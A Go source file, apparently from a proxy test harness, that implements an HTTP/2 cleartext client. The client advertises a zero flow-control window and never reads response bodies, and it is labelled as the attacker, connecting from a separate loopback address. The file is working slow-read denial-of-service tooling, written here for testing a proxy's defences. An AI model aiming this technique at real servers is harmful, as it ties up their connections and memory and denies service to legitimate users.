package main

import (
	"encoding/binary"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// HTTP/2 frame types and flags (RFC 9113 section 6).
const (
	frameData      = 0x0
	frameHeaders   = 0x1
	frameRSTStream = 0x3
	frameSettings  = 0x4
	framePing      = 0x6
	frameGoAway    = 0x7

	flagAck        = 0x1
	flagEndStream  = 0x1
	flagEndHeaders = 0x4

	settingEnablePush        = 0x2
	settingInitialWindowSize = 0x4
)

// h2Reader is an h2c client that never reads a response: it advertises an
// initial stream window of 0 and never sends WINDOW_UPDATE, so the server
// may send headers but not one byte of any body. It reads the socket only
// to answer SETTINGS and PING (as a conforming peer) and to count what the
// server sent.
type h2Reader struct {
	conn net.Conn
	wmu  sync.Mutex
	next uint32 // the next stream id

	headers, resets, goaways, dataBytes atomic.Int64
}

func dialH2Reader(addr string) (*h2Reader, error) {
	c, err := attackerDialer(2*time.Second).Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	r := &h2Reader{conn: c, next: 1}
	b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	var set []byte
	set = appendSetting(set, settingEnablePush, 0)
	set = appendSetting(set, settingInitialWindowSize, 0)
	b = appendFrame(b, frameSettings, 0, 0, set)
	if _, err := c.Write(b); err != nil {
		c.Close()
		return nil, err
	}
	go r.readLoop()
	return r, nil
}

func appendSetting(b []byte, id uint16, v uint32) []byte {
	b = binary.BigEndian.AppendUint16(b, id)
	return binary.BigEndian.AppendUint32(b, v)
}

func appendFrame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// appendHPACKInt encodes v with an n-bit prefix (RFC 7541 section 5.1).
func appendHPACKInt(b []byte, first byte, n uint, v int) []byte {
	limit := 1<<n - 1
	if v < limit {
		return append(b, first|byte(v))
	}
	b = append(b, first|byte(limit))
	v -= limit
	for v >= 0x80 {
		b = append(b, byte(v&0x7f)|0x80)
		v >>= 7
	}
	return append(b, byte(v))
}

// appendHPACKField is a literal header field without indexing, with a new
// name and no Huffman coding (RFC 7541 section 6.2.2).
func appendHPACKField(b []byte, name, value string) []byte {
	b = append(b, 0)
	b = appendHPACKInt(b, 0, 7, len(name))
	b = append(b, name...)
	b = appendHPACKInt(b, 0, 7, len(value))
	return append(b, value...)
}

func (r *h2Reader) write(b []byte) error {
	r.wmu.Lock()
	defer r.wmu.Unlock()
	r.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
	_, err := r.conn.Write(b)
	return err
}

// post opens one stream: a POST of body to path with the given headers.
func (r *h2Reader) post(authority, path string, body []byte, hdrs [][2]string) error {
	r.wmu.Lock()
	id := r.next
	r.next += 2
	r.wmu.Unlock()
	var blk []byte
	blk = appendHPACKField(blk, ":method", "POST")
	blk = appendHPACKField(blk, ":scheme", "http")
	blk = appendHPACKField(blk, ":authority", authority)
	blk = appendHPACKField(blk, ":path", path)
	for _, h := range hdrs {
		blk = appendHPACKField(blk, h[0], h[1])
	}
	f := appendFrame(nil, frameHeaders, flagEndHeaders, id, blk)
	f = appendFrame(f, frameData, flagEndStream, id, body)
	return r.write(f)
}

func (r *h2Reader) readLoop() {
	hdr := make([]byte, 9)
	buf := make([]byte, 1<<14)
	for {
		if _, err := io.ReadFull(r.conn, hdr); err != nil {
			return
		}
		n := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
		typ, flags := hdr[3], hdr[4]
		if n > len(buf) {
			buf = make([]byte, n)
		}
		p := buf[:n]
		if _, err := io.ReadFull(r.conn, p); err != nil {
			return
		}
		switch typ {
		case frameData:
			r.dataBytes.Add(int64(n))
		case frameHeaders:
			r.headers.Add(1)
		case frameRSTStream:
			r.resets.Add(1)
		case frameGoAway:
			r.goaways.Add(1)
		case frameSettings:
			if flags&flagAck == 0 {
				r.write(appendFrame(nil, frameSettings, flagAck, 0, nil))
			}
		case framePing:
			if flags&flagAck == 0 {
				r.write(appendFrame(nil, framePing, flagAck, 0, p))
			}
		}
	}
}

func (r *h2Reader) close() { r.conn.Close() }

// attackerIP is the source address of every attacking connection, so that
// the proxy can tell the attacker from the legitimate clients and probes,
// which come from 127.0.0.1 (all of 127.0.0.0/8 is local on Linux).
const attackerIP = "127.0.0.2"

func attackerDialer(timeout time.Duration) *net.Dialer {
	return &net.Dialer{Timeout: timeout, LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackerIP)}}
}
